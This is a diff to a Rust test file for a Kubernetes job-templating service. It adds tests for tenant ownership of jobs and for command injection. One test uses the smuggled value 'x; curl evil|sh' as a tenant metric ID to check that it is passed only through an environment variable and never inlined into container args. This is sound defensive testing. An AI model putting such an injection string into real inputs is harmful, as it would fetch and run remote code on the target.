@@ -42,7 +42,7 @@ fn made(of: i64) -> Value {
 }
 
 fn template_of(template: &TenantJob, of: i64) -> Value {
-    super::template(Of { namespace: "ops", name: "app" }, template, &write(of))
+    super::template(Of { namespace: "ops", name: "app" }, template, &write(of)).unwrap()
 }
 
 #[test]
@@ -74,7 +74,7 @@ fn a_job_is_found_again_with_how_it_stands_and_others_are_left_alone() {
     };
     let failed = json!([{"type": "Suspended", "status": "False"}, {"type": "Failed", "status": "True", "reason": "BackoffLimitExceeded", "message": "no luck"}]);
     let jobs = [job(1, json!([])), job(2, json!([{"type": "Complete", "status": "True"}])), job(3, failed)];
-    let found = read(Of { namespace: "ops", name: "app" }, jobs.iter());
+    let found = read(Of { namespace: "ops", name: "app" }, &[tenant()], jobs.iter());
     let mine = &found[&tenant().id];
     assert_eq!(
         mine.iter().map(|job| job.errand.clone()).collect::<Vec<_>>(),
@@ -86,5 +86,43 @@ fn a_job_is_found_again_with_how_it_stands_and_others_are_left_alone() {
     );
     let JobState::Failed(why) = &mine[2].state else { panic!("{mine:?}") };
     assert!(why.ends_with("BackoffLimitExceeded: no luck"), "{why}");
-    assert!(read(Of { namespace: "ops", name: "other" }, jobs.iter()).is_empty());
+    assert!(read(Of { namespace: "ops", name: "other" }, &[tenant()], jobs.iter()).is_empty());
+}
+
+#[test]
+fn s4_a_job_elsewhere_or_under_another_name_is_a_strangers() {
+    let with = |key: &str, value: &str| {
+        let mut job = made(1);
+        job["metadata"][key] = json!(value);
+        job["status"] = json!({"conditions": [{"type": "Complete", "status": "True"}]});
+        [Arc::new(from_value::<Job>(job).unwrap())]
+    };
+    let read =
+        |jobs: [Arc<Job>; 1]| read(Of { namespace: "ops", name: "app" }, &[tenant()], jobs.iter()).len();
+    assert_eq!(read(with("generateName", "x")), 1, "ours");
+    assert_eq!(read(with("namespace", "other")), 0, "its label and annotations say nothing");
+    assert_eq!(read(with("name", "bw-down-chat")), 0);
+}
+
+#[test]
+fn s10_a_name_in_metrics_is_no_command() {
+    let spec = json!({"template": {"spec": {"containers": [{"name": "a", "args": ["-c", "migrate {id}"]}, {"name": "b", "env": [{"name": "BREAKWATER_ID", "value": "own"}]}]}}});
+    let template: TenantJob = from_value(json!({"deadline": "20m", "spec": spec})).unwrap();
+    let of = Of { namespace: "ops", name: "app" };
+    let evil = "x; curl evil|sh";
+    let mut write = write(1);
+    write.tenant.metric_id = Some(evil.into());
+    let why = super::template(of, &template, &write).unwrap_err();
+    assert!(why.contains("BREAKWATER_ID") && why.contains("{id}"), "{why}");
+    let mut quiet = template.clone();
+    quiet.spec["template"]["spec"]["containers"][0]["args"][1] = json!("migrate \"$BREAKWATER_ID\"");
+    let job = super::template(of, &quiet, &write).unwrap();
+    let env =
+        |at: usize| job["spec"]["template"]["spec"]["containers"][at]["env"].as_array().unwrap().clone();
+    assert!(env(0).contains(&json!({"name": "BREAKWATER_ID", "value": evil})), "{:?}", env(0));
+    assert!(
+        env(1).contains(&json!({"name": "BREAKWATER_ID", "value": "own"})) && env(1).len() == 5,
+        "{:?}",
+        env(1)
+    );
 }
